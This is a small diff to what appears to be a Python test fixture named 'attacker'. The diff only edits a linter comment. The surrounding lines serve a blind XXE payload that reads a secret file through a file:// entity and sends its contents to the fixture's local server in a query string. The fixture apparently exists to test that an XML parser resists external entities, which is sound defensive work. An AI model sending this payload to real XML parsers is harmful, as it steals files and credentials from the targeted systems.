@@ -37,7 +37,7 @@ def attacker(tmp_path):
     secret.write_text("cle-de-l-instance")
 
     class Handler(BaseHTTPRequestHandler):
-        def do_GET(self):  # noqa: N802 - http.server's naming
+        def do_GET(self):  # http.server's naming
             server.requests.append(self.path)
             body = (f'<!ENTITY % file SYSTEM "file://{secret}">'
                     f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{server.base}/x?%file;\'>">%eval;%exfil;')
